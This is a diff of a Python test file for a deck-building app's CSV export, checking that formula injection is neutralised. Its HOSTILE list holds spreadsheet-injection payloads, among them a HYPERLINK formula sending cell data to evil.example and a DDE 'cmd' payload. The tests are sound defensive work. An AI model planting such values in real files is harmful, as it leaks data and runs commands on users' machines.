@@ -16,10 +16,11 @@ from collection.csv_format import (
     render_collection_csv,
     render_missing_csv,
 )
+from decks.formats.card_refs import CardRef
 from decks.formats.csv_cells import TRIGGERS, cell_in, cell_out
 from decks.formats.csv_format import parse_csv, render_csv
-from decks.formats.model import CardRef, Deck, DeckEntry
 from decks.formats.text import CatalogueResolver
+from rules.decklist import DeckEntry, Decklist
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,2)", "\t=1", "\r=1", "'=already quoted", "''@twice"]
@@ -58,7 +59,7 @@ CARDS = {card.id: card for card in CATALOGUE}
 
 @pytest.mark.parametrize("hostile", HOSTILE)
 def test_the_deck_csv_neutralises_formulas_and_reads_them_back(hostile: str) -> None:
-    deck = Deck(name=hostile, players=4, description=hostile,
+    deck = Decklist(name=hostile, players=4, description=hostile,
                 wanderers=tuple(DeckEntry(card.id, 1) for card in CATALOGUE))
     text = render_csv(deck, CARDS)
     assert formulas(text) == []
@@ -87,12 +88,12 @@ def test_the_missing_cards_csv_neutralises_card_names() -> None:
 
 @pytest.mark.django_db
 def test_a_deck_exported_as_csv_by_the_api_carries_no_formula(ada: object) -> None:
-    from decks.models import Deck as DeckModel
+    from decks.models import Deck
     from decks.services import deck_data, deck_save
 
-    sample = DeckModel.objects.get(owner__username="samples", name="Guild Merchants")
-    owner = DeckModel.objects.get(pk=sample.pk).owner
-    deck = deck_save(owner=owner, data=deck_data(sample), visibility=DeckModel.PUBLIC)
-    DeckModel.objects.filter(pk=deck.pk).update(name=HOSTILE[0])
+    sample = Deck.objects.get(owner__username="samples", name="Guild Merchants")
+    owner = Deck.objects.get(pk=sample.pk).owner
+    deck = deck_save(owner=owner, data=deck_data(sample), visibility=Deck.PUBLIC)
+    Deck.objects.filter(pk=deck.pk).update(name=HOSTILE[0])
     text = ada.get(f"/api/decks/{deck.pk}/export/?to=csv").content.decode()  # type: ignore[attr-defined]
     assert formulas(text) == [] and f"'{HOSTILE[0]}" in cells(text)
